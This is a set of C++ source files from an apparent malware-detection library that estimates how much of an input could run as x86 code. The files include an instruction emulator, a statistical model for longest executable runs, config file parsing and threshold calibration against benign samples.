      flags_.carry = *eflags & 0x1;
      flags_.zero = *eflags & 0x40;
      flags_.sign = *eflags & 0x80;
      flags_.overflow = *eflags & 0x800;
      return done();
    }

    case Mnemonic::kEnter: {
      if (!push32(reg(Gpr::kEbp))) {
        return fault(InvalidReason::kIllegalMemory);
      }
      set_reg(Gpr::kEbp, reg(Gpr::kEsp));
      set_reg(Gpr::kEsp,
              reg(Gpr::kEsp) -
                  static_cast<std::uint32_t>(insn.operands[0].immediate));
      return done();
    }

    case Mnemonic::kLeave: {
      set_reg(Gpr::kEsp, reg(Gpr::kEbp));
      const auto value = pop32();
      if (!value) return fault(InvalidReason::kIllegalMemory);
      set_reg(Gpr::kEbp, *value);
      return done();
    }

    case Mnemonic::kJmp:
      if (insn.has_flag(disasm::kFlagBranchIndirect)) {
        const auto target = read_operand(dst);
        if (!target) return fault(InvalidReason::kIllegalMemory);
        if (*target < config_.image_base ||
            *target - config_.image_base >= image_.size()) {
          stop.result.reason = StopReason::kIndirectBranch;
          return stop;
        }
        return jump_to(*target);
      }
      return jump_to(config_.image_base +
                     static_cast<std::uint32_t>(insn.branch_target()));

    case Mnemonic::kJcc:
      if (condition_holds(insn.cc)) {
        return jump_to(config_.image_base +
                       static_cast<std::uint32_t>(insn.branch_target()));
      }
      return done();

    case Mnemonic::kJecxz:
      if (reg(Gpr::kEcx) == 0) {
        return jump_to(config_.image_base +
                       static_cast<std::uint32_t>(insn.branch_target()));
      }
      return done();

    case Mnemonic::kLoop:
    case Mnemonic::kLoope:
    case Mnemonic::kLoopne: {
      const std::uint32_t ecx = reg(Gpr::kEcx) - 1;
      set_reg(Gpr::kEcx, ecx);
      bool taken = ecx != 0;
      if (insn.mnemonic == Mnemonic::kLoope) taken = taken && flags_.zero;
      if (insn.mnemonic == Mnemonic::kLoopne) taken = taken && !flags_.zero;
      if (taken) {
        return jump_to(config_.image_base +
                       static_cast<std::uint32_t>(insn.branch_target()));
      }
      return done();
    }

    case Mnemonic::kCall: {
      if (insn.has_flag(disasm::kFlagBranchIndirect)) {
        const auto target = read_operand(dst);
        if (!target) return fault(InvalidReason::kIllegalMemory);
        if (!push32(next_eip)) {
          return fault(InvalidReason::kIllegalMemory);
        }
        if (*target < config_.image_base ||
            *target - config_.image_base >= image_.size()) {
          stop.result.reason = StopReason::kIndirectBranch;
          return stop;
        }
        return jump_to(*target);
      }
      if (!push32(next_eip)) {
        return fault(InvalidReason::kIllegalMemory);
      }
      return jump_to(config_.image_base +
                     static_cast<std::uint32_t>(insn.branch_target()));
    }

    case Mnemonic::kRet: {
      const auto target = pop32();
      if (!target) return fault(InvalidReason::kIllegalMemory);
      if (insn.operand_count >= 1 &&
          insn.operands[0].kind == OperandKind::kImmediate) {
        set_reg(Gpr::kEsp,
                reg(Gpr::kEsp) +
                    static_cast<std::uint32_t>(insn.operands[0].immediate));
      }
      if (*target < config_.image_base ||
          *target - config_.image_base >= image_.size()) {
        stop.result.reason = StopReason::kIndirectBranch;
        return stop;
      }
      return jump_to(*target);
    }

    case Mnemonic::kMovs:
    case Mnemonic::kStos:
    case Mnemonic::kLods: {
      const std::uint32_t unit = static_cast<std::uint32_t>(insn.data_width);
      std::uint64_t repeats = insn.rep_prefix ? reg(Gpr::kEcx) : 1;
      if (repeats > 1'000'000) return unimplemented();  // Runaway rep.
      while (repeats-- > 0) {
        std::uint32_t value = reg(Gpr::kEax);
        if (insn.mnemonic != Mnemonic::kStos) {
          // Source is [esi].
          const auto loaded = read_block(reg(Gpr::kEsi), unit);
          if (!loaded) return fault(InvalidReason::kIllegalMemory);
          value = 0;
          for (std::size_t i = unit; i-- > 0;) {
            value = (value << 8) | (*loaded)[i];
          }
          set_reg(Gpr::kEsi, reg(Gpr::kEsi) + unit);
        }
        if (insn.mnemonic == Mnemonic::kLods) {
          const Operand ax{OperandKind::kRegister, insn.data_width,
                           Gpr::kEax};
          write_operand(ax, value);
        } else {
          for (std::uint32_t i = 0; i < unit; ++i) {
            if (!write8(reg(Gpr::kEdi) + i,
                        static_cast<std::uint8_t>(value >> (8 * i)))) {
              return fault(InvalidReason::kIllegalMemory);
            }
          }
          set_reg(Gpr::kEdi, reg(Gpr::kEdi) + unit);
        }
        if (insn.rep_prefix) set_reg(Gpr::kEcx, reg(Gpr::kEcx) - 1);
      }
      return done();
    }

    case Mnemonic::kXlat: {
      const auto byte = read8(reg(Gpr::kEbx) + (reg(Gpr::kEax) & 0xFF));
      if (!byte) return fault(InvalidReason::kIllegalMemory);
      set_reg(Gpr::kEax, (reg(Gpr::kEax) & 0xFFFFFF00u) | *byte);
      return done();
    }

    case Mnemonic::kCwde: {
      const auto ax = static_cast<std::int16_t>(reg(Gpr::kEax) & 0xFFFF);
      set_reg(Gpr::kEax, static_cast<std::uint32_t>(
                             static_cast<std::int32_t>(ax)));
      return done();
    }

    case Mnemonic::kCdq: {
      const bool negative = reg(Gpr::kEax) >> 31;
      set_reg(Gpr::kEdx, negative ? 0xFFFFFFFFu : 0u);
      return done();
    }

    case Mnemonic::kSahf: {
      const std::uint32_t ah = (reg(Gpr::kEax) >> 8) & 0xFF;
      flags_.carry = ah & 0x1;
      flags_.zero = ah & 0x40;
      flags_.sign = ah & 0x80;
      return done();
    }

    case Mnemonic::kLahf: {
      std::uint32_t ah = 0x2;
      if (flags_.carry) ah |= 0x1;
      if (flags_.zero) ah |= 0x40;
      if (flags_.sign) ah |= 0x80;
      set_reg(Gpr::kEax,
              (reg(Gpr::kEax) & 0xFFFF00FFu) | (ah << 8));
      return done();
    }

    case Mnemonic::kSalc:
      set_reg(Gpr::kEax, (reg(Gpr::kEax) & 0xFFFFFF00u) |
                             (flags_.carry ? 0xFFu : 0x00u));
      return done();

    case Mnemonic::kClc: flags_.carry = false; return done();
    case Mnemonic::kStc: flags_.carry = true; return done();
    case Mnemonic::kCmc: flags_.carry = !flags_.carry; return done();
    case Mnemonic::kCld:
    case Mnemonic::kStd:
      return done();  // DF modeled as always-forward; cld is the common case.

    case Mnemonic::kBound: {
      // Modeled as the bounds *read* without the #BR trap, matching the
      // conservative static rule (see validity.hpp).
      const std::uint32_t addr = effective_address(src);
      if (!read32(addr) || !read32(addr + 4)) {
        return fault(InvalidReason::kIllegalMemory);
      }
      return done();
    }

    case Mnemonic::kArpl: {
      const auto dest_value = read_operand(dst);
      const auto src_value = read_operand(src);
      if (!dest_value || !src_value) {
        return fault(InvalidReason::kIllegalMemory);
      }
      if ((*dest_value & 3) < (*src_value & 3)) {
        flags_.zero = true;
        write_operand(dst, (*dest_value & ~3u) | (*src_value & 3));
      } else {
        flags_.zero = false;
      }
      return done();
    }

    case Mnemonic::kDaa:
    case Mnemonic::kDas:
    case Mnemonic::kAaa:
    case Mnemonic::kAas:
    case Mnemonic::kAam:
    case Mnemonic::kAad: {
      // BCD adjustments: value-accurate for AAM/AAD, flag-coarse for the
      // others (their AF interplay is untracked; text detection never
      // depends on it).
      std::uint32_t eax = reg(Gpr::kEax);
      std::uint32_t al = eax & 0xFF;
      std::uint32_t ah = (eax >> 8) & 0xFF;
      switch (insn.mnemonic) {
        case Mnemonic::kAam: {
          const auto base =
              static_cast<std::uint32_t>(insn.operands[0].immediate);
          ah = al / base;  // base==0 already faulted statically (aam_zero).
          al = al % base;
          break;
        }
        case Mnemonic::kAad: {
          const auto base =
              static_cast<std::uint32_t>(insn.operands[0].immediate);
          al = (al + ah * base) & 0xFF;
          ah = 0;
          break;
        }
        case Mnemonic::kAaa:
          if ((al & 0xF) > 9) {
            al = (al + 6) & 0xF;
            ah = (ah + 1) & 0xFF;
            flags_.carry = true;
          } else {
            flags_.carry = false;
          }
          break;
        case Mnemonic::kAas:
          if ((al & 0xF) > 9) {
            al = (al - 6) & 0xF;
            ah = (ah - 1) & 0xFF;
            flags_.carry = true;
          } else {
            flags_.carry = false;
          }
          break;
        case Mnemonic::kDaa:
          if ((al & 0xF) > 9) al += 6;
          if (al > 0x9F) {
            al += 0x60;
            flags_.carry = true;
          }
          al &= 0xFF;
          break;
        case Mnemonic::kDas:
          if ((al & 0xF) > 9) al -= 6;
          if (al > 0x9F) {
            al -= 0x60;
            flags_.carry = true;
          }
          al &= 0xFF;
          break;
        default: break;
      }
      flags_.zero = al == 0;
      flags_.sign = al >> 7;
      set_reg(Gpr::kEax, (eax & 0xFFFF0000u) | (ah << 8) | al);
      return done();
    }

    case Mnemonic::kMul:
    case Mnemonic::kImul: {
      if (insn.operand_count == 3) {
        // imul Gv, Ev, imm
        const auto value = read_operand(src);
        if (!value) return fault(InvalidReason::kIllegalMemory);
        const auto imm =
            static_cast<std::int64_t>(insn.operands[2].immediate);
        const std::int64_t wide =
            static_cast<std::int64_t>(static_cast<std::int32_t>(*value)) *
            imm;
        write_operand(dst, static_cast<std::uint32_t>(wide));
        flags_.carry = flags_.overflow =
            wide != static_cast<std::int32_t>(wide);
        return done();
      }
      if (insn.operand_count == 2 && insn.mnemonic == Mnemonic::kImul) {
        // imul Gv, Ev
        const auto a = read_operand(dst);
        const auto b = read_operand(src);
        if (!a || !b) return fault(InvalidReason::kIllegalMemory);
        const std::int64_t wide =
            static_cast<std::int64_t>(static_cast<std::int32_t>(*a)) *
            static_cast<std::int32_t>(*b);
        write_operand(dst, static_cast<std::uint32_t>(wide));
        flags_.carry = flags_.overflow =
            wide != static_cast<std::int32_t>(wide);
        return done();
      }
      // Group-3 one-operand form: EDX:EAX = EAX * r/m.
      const auto value = read_operand(dst);
      if (!value) return fault(InvalidReason::kIllegalMemory);
      if (insn.mnemonic == Mnemonic::kMul) {
        const std::uint64_t wide =
            static_cast<std::uint64_t>(reg(Gpr::kEax)) * *value;
        set_reg(Gpr::kEax, static_cast<std::uint32_t>(wide));
        set_reg(Gpr::kEdx, static_cast<std::uint32_t>(wide >> 32));
        flags_.carry = flags_.overflow = (wide >> 32) != 0;
      } else {
        const std::int64_t wide =
            static_cast<std::int64_t>(
                static_cast<std::int32_t>(reg(Gpr::kEax))) *
            static_cast<std::int32_t>(*value);
        set_reg(Gpr::kEax, static_cast<std::uint32_t>(wide));
        set_reg(Gpr::kEdx,
                static_cast<std::uint32_t>(static_cast<std::uint64_t>(wide) >>
                                           32));
        flags_.carry = flags_.overflow =
            wide != static_cast<std::int32_t>(wide);
      }
      return done();
    }

    case Mnemonic::kDiv:
    case Mnemonic::kIdiv: {
      const auto divisor = read_operand(dst);
      if (!divisor) return fault(InvalidReason::kIllegalMemory);
      if (*divisor == 0) return fault(InvalidReason::kDivideError);
      if (insn.mnemonic == Mnemonic::kDiv) {
        const std::uint64_t dividend =
            (static_cast<std::uint64_t>(reg(Gpr::kEdx)) << 32) |
            reg(Gpr::kEax);
        const std::uint64_t quotient = dividend / *divisor;
        if (quotient > 0xFFFFFFFFull) {
          return fault(InvalidReason::kDivideError);
        }
        set_reg(Gpr::kEax, static_cast<std::uint32_t>(quotient));
        set_reg(Gpr::kEdx,
                static_cast<std::uint32_t>(dividend % *divisor));
      } else {
        const auto dividend = static_cast<std::int64_t>(
            (static_cast<std::uint64_t>(reg(Gpr::kEdx)) << 32) |
            reg(Gpr::kEax));
        const auto div_value =
            static_cast<std::int64_t>(static_cast<std::int32_t>(*divisor));
        const std::int64_t quotient = dividend / div_value;
        if (quotient > 0x7FFFFFFFll || quotient < -0x80000000ll) {
          return fault(InvalidReason::kDivideError);
        }
        set_reg(Gpr::kEax, static_cast<std::uint32_t>(quotient));
        set_reg(Gpr::kEdx,
                static_cast<std::uint32_t>(dividend % div_value));
      }
      return done();
    }

    case Mnemonic::kMovzx:
    case Mnemonic::kMovsx: {
      const auto value = read_operand(src);
      if (!value) return fault(InvalidReason::kIllegalMemory);
      std::uint32_t extended = *value;
      if (insn.mnemonic == Mnemonic::kMovsx) {
        extended = src.width == Width::kByte
                       ? static_cast<std::uint32_t>(static_cast<std::int32_t>(
                             static_cast<std::int8_t>(*value)))
                       : static_cast<std::uint32_t>(static_cast<std::int32_t>(
                             static_cast<std::int16_t>(*value)));
      }
      write_operand(dst, extended);
      return done();
    }

    case Mnemonic::kBswap: {
      const std::uint32_t v = reg(dst.reg);
      set_reg(dst.reg, ((v & 0xFF) << 24) | ((v & 0xFF00) << 8) |
                           ((v >> 8) & 0xFF00) | (v >> 24));
      return done();
    }

    case Mnemonic::kSetcc: {
      if (!write_operand(dst, condition_holds(insn.cc) ? 1 : 0)) {
        return fault(InvalidReason::kIllegalMemory);
      }
      return done();
    }

    case Mnemonic::kCmovcc: {
      if (condition_holds(insn.cc)) {
        const auto value = read_operand(src);
        if (!value) return fault(InvalidReason::kIllegalMemory);
        write_operand(dst, *value);
      }
      return done();
    }

    case Mnemonic::kRdtsc:
      set_reg(Gpr::kEax, 0x5EED5EED);
      set_reg(Gpr::kEdx, 0);
      return done();

    case Mnemonic::kCpuid:
      set_reg(Gpr::kEax, 1);
      set_reg(Gpr::kEbx, 0x6C65626D);  // "mbel"
      set_reg(Gpr::kEcx, 0);
      set_reg(Gpr::kEdx, 0);
      return done();

    default:
      return unimplemented();
  }
}

}  // namespace mel::exec
