#include "mel/core/mel_model.hpp"

#include <cassert>
#include <cmath>

#include "mel/stats/longest_run.hpp"

namespace mel::core {

MelModel::MelModel(std::int64_t n, double p) : n_(n), p_(p) {
  assert(n >= 1);
  assert(p > 0.0 && p < 1.0);
}

util::Status MelModel::validate(std::int64_t n, double p) {
  if (n < 1) {
    return util::Status::invalid_config(
        "MelModel requires n >= 1 instructions; got " + std::to_string(n));
  }
  if (!(p > 0.0 && p < 1.0)) {  // !(..) also catches NaN.
    return util::Status::invalid_config(
        "MelModel requires p in (0,1); got " + std::to_string(p));
  }
  return util::Status::ok();
}

util::StatusOr<MelModel> MelModel::create(std::int64_t n, double p) {
  if (util::Status status = validate(n, p); !status.is_ok()) return status;
  return MelModel(n, p);
}

double MelModel::cdf(std::int64_t x) const {
  if (x < 0) return 0.0;
  if (x >= n_) return 1.0;
  const double q_pow =
      std::pow(1.0 - p_, static_cast<double>(x));  // (1-p)^x
  const double first = 1.0 - q_pow;
  // (1 - p(1-p)^x)^n in log space for numerical stability at large n.
  const double second =
      std::exp(static_cast<double>(n_) * std::log1p(-p_ * q_pow));
  return first * second;
}

double MelModel::pmf(std::int64_t x) const {
  if (x < 0) return 0.0;
  return std::max(0.0, cdf(x) - cdf(x - 1));
}

double MelModel::mean() const {
  // E[X] = sum_{x>=0} (1 - cdf(x)), truncated when the tail vanishes.
  double total = 0.0;
  for (std::int64_t x = 0; x < n_; ++x) {
    const double tail = 1.0 - cdf(x);
    total += tail;
    if (tail < 1e-12) break;
  }
  return total;
}

double MelModel::false_positive_rate(double tau) const {
  const double q_pow = std::pow(1.0 - p_, tau);
  const double first = 1.0 - q_pow;
  const double second =
      std::exp(static_cast<double>(n_) * std::log1p(-p_ * q_pow));
  return 1.0 - first * second;
}

double MelModel::false_positive_rate_approx(double tau) const {
  const double q_pow = std::pow(1.0 - p_, tau);
  return 1.0 - std::exp(static_cast<double>(n_) * std::log1p(-p_ * q_pow));
}

double MelModel::threshold_for_alpha(double alpha) const {
  assert(alpha > 0.0 && alpha < 1.0);
  // c = 1 - (1-alpha)^(1/n), computed stably via expm1/log1p.
  const double c = -std::expm1(std::log1p(-alpha) / static_cast<double>(n_));
  return (std::log(c) - std::log(p_)) / std::log1p(-p_);
}

double MelModel::threshold_for_alpha_exact(double alpha) const {
  assert(alpha > 0.0 && alpha < 1.0);
  // false_positive_rate(tau) decreases in tau; bisect.
  double lo = 0.0;
  double hi = static_cast<double>(n_);
  for (int iteration = 0; iteration < 200; ++iteration) {
    const double mid = 0.5 * (lo + hi);
    if (false_positive_rate(mid) > alpha) {
      lo = mid;
    } else {
      hi = mid;
    }
  }
  return 0.5 * (lo + hi);
}

std::vector<double> MelModel::pmf_table(double tail_epsilon) const {
  std::vector<double> table;
  for (std::int64_t x = 0; x <= n_; ++x) {
    table.push_back(pmf(x));
    if (x > 0 && 1.0 - cdf(x) < tail_epsilon) break;
  }
  return table;
}

double MelModel::cdf_exact_dp(std::int64_t x) const {
  return stats::longest_run_cdf_exact(n_, p_, x);
}

double MelModel::pmf_exact_dp(std::int64_t x) const {
  return stats::longest_run_pmf_exact(n_, p_, x);
}

}  // namespace mel::core
