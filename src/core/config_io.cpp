#include "mel/core/config_io.hpp"

#include <cstdint>
#include <cstdio>
#include <fstream>
#include <sstream>

#include "mel/util/logging.hpp"

namespace mel::core {

namespace {

constexpr std::string_view kMagic = "melcfg 1";

std::string_view engine_name(exec::MelEngine engine) {
  switch (engine) {
    case exec::MelEngine::kLinearSweep:
      return "sweep";
    case exec::MelEngine::kAllPathsDag:
      return "dag";
    case exec::MelEngine::kPathExplorer:
      return "explorer";
    case exec::MelEngine::kCachedDag:
      return "cached-dag";
  }
  return "sweep";
}

}  // namespace

std::string serialize_config(const DetectorConfig& config) {
  std::ostringstream out;
  out << kMagic << '\n';
  // %.17g guarantees double round-trip: a saved calibration reloads to
  // exactly the alpha it was calibrated with (default stream precision
  // silently truncated to 6 significant digits).
  char alpha_line[64];
  std::snprintf(alpha_line, sizeof(alpha_line), "alpha %.17g\n", config.alpha);
  out << alpha_line;
  out << "engine " << engine_name(config.engine) << '\n';
  out << "measure_input " << (config.measure_input ? 1 : 0) << '\n';
  out << "early_exit " << (config.early_exit ? 1 : 0) << '\n';
  if (config.preset_frequencies) {
    for (int b = 0; b < 256; ++b) {
      const double probability = (*config.preset_frequencies)[b];
      if (probability > 0.0) {
        char line[64];
        std::snprintf(line, sizeof(line), "freq %d %.17g\n", b, probability);
        out << line;
      }
    }
  }
  out << "end\n";
  return out.str();
}

util::StatusOr<DetectorConfig> parse_config_checked(std::string_view text) {
  if (text.size() > kMaxConfigTextBytes) {
    return util::Status::invalid_argument(
        "config text is " + std::to_string(text.size()) +
        " bytes; the cap is " + std::to_string(kMaxConfigTextBytes));
  }
  std::istringstream in{std::string(text)};
  std::string line;
  if (!std::getline(in, line) || line != kMagic) {
    return util::Status::invalid_argument("not a melcfg file (bad magic)");
  }
  DetectorConfig config;
  CharFrequencyTable table{};
  bool has_frequencies = false;
  bool saw_end = false;
  while (std::getline(in, line)) {
    if (line.empty() || line[0] == '#') continue;
    std::istringstream fields(line);
    std::string key;
    fields >> key;
    if (key == "end") {
      saw_end = true;
      break;
    } else if (key == "alpha") {
      fields >> config.alpha;
      if (!fields) return util::Status::invalid_argument("bad alpha");
      // Domain checking is deferred to DetectorConfig::validate() below —
      // one validation path for files and programmatic configs alike.
    } else if (key == "engine") {
      std::string name;
      fields >> name;
      if (name == "sweep") {
        config.engine = exec::MelEngine::kLinearSweep;
      } else if (name == "dag") {
        config.engine = exec::MelEngine::kAllPathsDag;
      } else if (name == "explorer") {
        config.engine = exec::MelEngine::kPathExplorer;
      } else if (name == "cached-dag") {
        config.engine = exec::MelEngine::kCachedDag;
      } else {
        return util::Status::invalid_argument(
            "bad engine: " + util::escape_log_field(name));
      }
    } else if (key == "measure_input") {
      int flag = 0;
      fields >> flag;
      config.measure_input = flag != 0;
    } else if (key == "early_exit") {
      int flag = 1;
      fields >> flag;
      config.early_exit = flag != 0;
    } else if (key == "freq") {
      int byte = -1;
      double probability = -1.0;
      fields >> byte >> probability;
      if (!fields || byte < 0 || byte > 255 ||
          !(probability >= 0.0 && probability <= 1.0) /* rejects NaN */) {
        return util::Status::invalid_argument(
            "bad freq line: " + util::escape_log_field(line));
      }
      table[byte] = probability;
      has_frequencies = true;
    } else {
      return util::Status::invalid_argument(
          "unknown key: " + util::escape_log_field(key));
    }
  }
  if (!saw_end) {
    return util::Status::invalid_argument("truncated config (no 'end')");
  }
  if (has_frequencies) {
    double total = 0.0;
    for (double probability : table) total += probability;
    if (total < 0.99 || total > 1.01) {
      return util::Status::invalid_argument(
          "frequency table does not sum to 1");
    }
    config.preset_frequencies = table;
  }
  if (util::Status status = config.validate(); !status.is_ok()) {
    return status;
  }
  return config;
}

util::Result<DetectorConfig> parse_config(std::string_view text) {
  util::StatusOr<DetectorConfig> parsed = parse_config_checked(text);
  if (!parsed.is_ok()) return util::Err(std::string(parsed.status().message()));
  return std::move(parsed).take();
}

bool save_config(const DetectorConfig& config, const std::string& path) {
  std::ofstream out(path);
  if (!out) return false;
  out << serialize_config(config);
  return static_cast<bool>(out);
}

util::Result<DetectorConfig> load_config(const std::string& path) {
  std::ifstream in(path, std::ios::binary | std::ios::ate);
  if (!in) return util::Err("cannot open " + path);
  // Check the size before buffering, so a multi-GB file is refused
  // without ever being read into memory.
  const std::streamoff size = in.tellg();
  if (size < 0 ||
      static_cast<std::uintmax_t>(size) > kMaxConfigTextBytes) {
    return util::Err("config file " + path + " exceeds the " +
                     std::to_string(kMaxConfigTextBytes) + "-byte cap");
  }
  in.seekg(0);
  std::ostringstream buffer;
  buffer << in.rdbuf();
  return parse_config(buffer.str());
}

}  // namespace mel::core
