#include "mel/core/config_io.hpp"

#include <cstdio>
#include <fstream>
#include <sstream>

namespace mel::core {

namespace {

constexpr std::string_view kMagic = "melcfg 1";

std::string_view engine_name(exec::MelEngine engine) {
  switch (engine) {
    case exec::MelEngine::kLinearSweep:
      return "sweep";
    case exec::MelEngine::kAllPathsDag:
      return "dag";
    case exec::MelEngine::kPathExplorer:
      return "explorer";
  }
  return "sweep";
}

}  // namespace

std::string serialize_config(const DetectorConfig& config) {
  std::ostringstream out;
  out << kMagic << '\n';
  out << "alpha " << config.alpha << '\n';
  out << "engine " << engine_name(config.engine) << '\n';
  out << "measure_input " << (config.measure_input ? 1 : 0) << '\n';
  out << "early_exit " << (config.early_exit ? 1 : 0) << '\n';
  if (config.preset_frequencies) {
    for (int b = 0; b < 256; ++b) {
      const double probability = (*config.preset_frequencies)[b];
      if (probability > 0.0) {
        char line[64];
        std::snprintf(line, sizeof(line), "freq %d %.12g\n", b, probability);
        out << line;
      }
    }
  }
  out << "end\n";
  return out.str();
}

util::Result<DetectorConfig> parse_config(std::string_view text) {
  std::istringstream in{std::string(text)};
  std::string line;
  if (!std::getline(in, line) || line != kMagic) {
    return util::Err("not a melcfg file (bad magic)");
  }
  DetectorConfig config;
  CharFrequencyTable table{};
  bool has_frequencies = false;
  bool saw_end = false;
  while (std::getline(in, line)) {
    if (line.empty() || line[0] == '#') continue;
    std::istringstream fields(line);
    std::string key;
    fields >> key;
    if (key == "end") {
      saw_end = true;
      break;
    } else if (key == "alpha") {
      fields >> config.alpha;
      if (!fields) return util::Err("bad alpha");
      // Domain checking is deferred to DetectorConfig::validate() below —
      // one validation path for files and programmatic configs alike.
    } else if (key == "engine") {
      std::string name;
      fields >> name;
      if (name == "sweep") {
        config.engine = exec::MelEngine::kLinearSweep;
      } else if (name == "dag") {
        config.engine = exec::MelEngine::kAllPathsDag;
      } else if (name == "explorer") {
        config.engine = exec::MelEngine::kPathExplorer;
      } else {
        return util::Err("bad engine: " + name);
      }
    } else if (key == "measure_input") {
      int flag = 0;
      fields >> flag;
      config.measure_input = flag != 0;
    } else if (key == "early_exit") {
      int flag = 1;
      fields >> flag;
      config.early_exit = flag != 0;
    } else if (key == "freq") {
      int byte = -1;
      double probability = -1.0;
      fields >> byte >> probability;
      if (!fields || byte < 0 || byte > 255 || probability < 0.0 ||
          probability > 1.0) {
        return util::Err("bad freq line: " + line);
      }
      table[byte] = probability;
      has_frequencies = true;
    } else {
      return util::Err("unknown key: " + key);
    }
  }
  if (!saw_end) return util::Err("truncated config (no 'end')");
  if (has_frequencies) {
    double total = 0.0;
    for (double probability : table) total += probability;
    if (total < 0.99 || total > 1.01) {
      return util::Err("frequency table does not sum to 1");
    }
    config.preset_frequencies = table;
  }
  if (util::Status status = config.validate(); !status.is_ok()) {
    return util::Err(std::string(status.message()));
  }
  return config;
}

bool save_config(const DetectorConfig& config, const std::string& path) {
  std::ofstream out(path);
  if (!out) return false;
  out << serialize_config(config);
  return static_cast<bool>(out);
}

util::Result<DetectorConfig> load_config(const std::string& path) {
  std::ifstream in(path);
  if (!in) return util::Err("cannot open " + path);
  std::ostringstream buffer;
  buffer << in.rdbuf();
  return parse_config(buffer.str());
}

}  // namespace mel::core
