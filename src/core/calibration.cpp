#include "mel/core/calibration.hpp"

#include <cassert>

#include "mel/core/mel_model.hpp"

namespace mel::core {

double iso_error_tau(double p, std::int64_t n, double alpha) {
  return MelModel(n, p).threshold_for_alpha(alpha);
}

double iso_error_p(double tau, std::int64_t n, double alpha) {
  assert(tau > 0.0);
  // iso_error_tau is strictly decreasing in p on (0, 1); bisect.
  double lo = 1e-9;
  double hi = 1.0 - 1e-9;
  for (int iteration = 0; iteration < 200; ++iteration) {
    const double mid = 0.5 * (lo + hi);
    if (iso_error_tau(mid, n, alpha) > tau) {
      lo = mid;
    } else {
      hi = mid;
    }
  }
  return 0.5 * (lo + hi);
}

std::vector<IsoErrorPoint> iso_error_curve(std::int64_t n, double alpha,
                                           double p_min, double p_max,
                                           std::size_t points) {
  assert(points >= 2);
  assert(p_min > 0.0 && p_max < 1.0 && p_min < p_max);
  std::vector<IsoErrorPoint> curve;
  curve.reserve(points);
  for (std::size_t i = 0; i < points; ++i) {
    const double p =
        p_min + (p_max - p_min) * static_cast<double>(i) /
                    static_cast<double>(points - 1);
    curve.push_back(IsoErrorPoint{p, iso_error_tau(p, n, alpha)});
  }
  return curve;
}

SensitivityGap sensitivity_gap(double benign_p, double malware_min_mel,
                               std::int64_t n, double alpha) {
  SensitivityGap gap;
  gap.benign_p = benign_p;
  gap.benign_tau = iso_error_tau(benign_p, n, alpha);
  gap.malware_mel = malware_min_mel;
  gap.malware_p = iso_error_p(malware_min_mel, n, alpha);
  return gap;
}

}  // namespace mel::core
