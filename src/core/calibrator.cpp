#include "mel/core/calibrator.hpp"

#include <algorithm>
#include <cassert>
#include <cmath>
#include <sstream>

#include "mel/core/mel_model.hpp"
#include "mel/exec/mel.hpp"

namespace mel::core {

namespace {

CharFrequencyTable measure_corpus(const std::vector<util::ByteBuffer>& samples) {
  CharFrequencyTable table{};
  std::size_t total = 0;
  for (const auto& sample : samples) {
    for (std::uint8_t b : sample) table[b] += 1.0;
    total += sample.size();
  }
  assert(total > 0);
  for (double& value : table) value /= static_cast<double>(total);
  return table;
}

}  // namespace

CalibrationReport calibrate_from_benign(
    const std::vector<util::ByteBuffer>& samples,
    const CalibratorOptions& options) {
  assert(!samples.empty());
  CalibrationReport report;

  // Median sample size anchors the model's n.
  std::vector<std::size_t> sizes;
  sizes.reserve(samples.size());
  for (const auto& sample : samples) sizes.push_back(sample.size());
  std::nth_element(sizes.begin(), sizes.begin() + sizes.size() / 2,
                   sizes.end());
  const std::size_t median_size = sizes[sizes.size() / 2];

  const CharFrequencyTable table = measure_corpus(samples);
  report.params = estimate_parameters(table, median_size);

  report.config.alpha = options.alpha;
  report.config.rules = options.rules;
  report.config.preset_frequencies = table;

  const auto n = static_cast<std::int64_t>(std::llround(report.params.n));
  if (n >= 1 && report.params.p > 0.0 && report.params.p < 1.0) {
    report.tau = MelModel(n, report.params.p)
                     .threshold_for_alpha(options.alpha);
    report.gap = sensitivity_gap(report.params.p, options.worm_floor_mel, n,
                                 options.alpha);
  } else {
    report.warnings.push_back(
        "degenerate parameter estimate; channel not text-like enough");
  }

  // Empirical cross-check: benign MELs under the chosen rules.
  exec::MelOptions mel_options;
  mel_options.rules = options.rules;
  for (const auto& sample : samples) {
    report.benign_mels.add(exec::compute_mel(sample, mel_options).mel);
  }
  for (const auto& [mel_value, count] : report.benign_mels.items()) {
    if (static_cast<double>(mel_value) > report.tau) {
      report.benign_over_threshold += count;
    }
  }
  report.empirical_fp_rate =
      static_cast<double>(report.benign_over_threshold) /
      static_cast<double>(samples.size());

  if (samples.size() < 30) {
    report.warnings.push_back(
        "fewer than 30 benign samples; estimates will be noisy");
  }
  if (report.empirical_fp_rate > 3.0 * options.alpha) {
    report.warnings.push_back(
        "empirical FP rate far above alpha; the channel's text may be "
        "unusually executable (many immune bytes?) — collect more data or "
        "lower alpha");
  }
  if (report.gap.p_gap() <= 0.0) {
    report.warnings.push_back(
        "no sensitivity margin: estimated p is below the worm boundary");
  }
  report.healthy = report.warnings.empty();
  return report;
}

util::StatusOr<RecalibrationResult> recalibrate_from_frequencies(
    const CharFrequencyTable& frequencies, std::size_t input_chars,
    const CalibratorOptions& options) {
  if (!(options.alpha > 0.0 && options.alpha < 1.0)) {
    return util::Status::invalid_config(
        "recalibration alpha must lie in (0,1); got " +
        std::to_string(options.alpha));
  }
  util::StatusOr<EstimatedParameters> params =
      estimate_parameters_checked(frequencies, input_chars);
  if (!params.is_ok()) return params.status();

  RecalibrationResult result;
  result.params = params.value();
  const auto n = static_cast<std::int64_t>(std::llround(result.params.n));
  if (n < 1 || result.params.p <= 0.0 || result.params.p >= 1.0) {
    return util::Status::invalid_config(
        "drifted distribution yields a degenerate estimate (n=" +
        std::to_string(result.params.n) +
        ", p=" + std::to_string(result.params.p) +
        "); keeping the previous calibration");
  }
  result.tau = MelModel(n, result.params.p).threshold_for_alpha(options.alpha);
  result.config.alpha = options.alpha;
  result.config.rules = options.rules;
  result.config.preset_frequencies = frequencies;
  if (util::Status status = result.config.validate(); !status.is_ok()) {
    return status;
  }
  return result;
}

std::string format_calibration_report(const CalibrationReport& report) {
  std::ostringstream out;
  out << "calibration: " << (report.healthy ? "HEALTHY" : "NEEDS ATTENTION")
      << '\n';
  out << "  samples=" << report.benign_mels.total()
      << " n=" << report.params.n << " p=" << report.params.p
      << " (p_io=" << report.params.p_io
      << ", p_seg=" << report.params.p_wrong_segment << ")\n";
  out << "  tau=" << report.tau << " at alpha=" << report.config.alpha
      << '\n';
  if (!report.benign_mels.empty()) {
    out << "  benign MEL: mean=" << report.benign_mels.mean()
        << " p95=" << report.benign_mels.quantile(0.95)
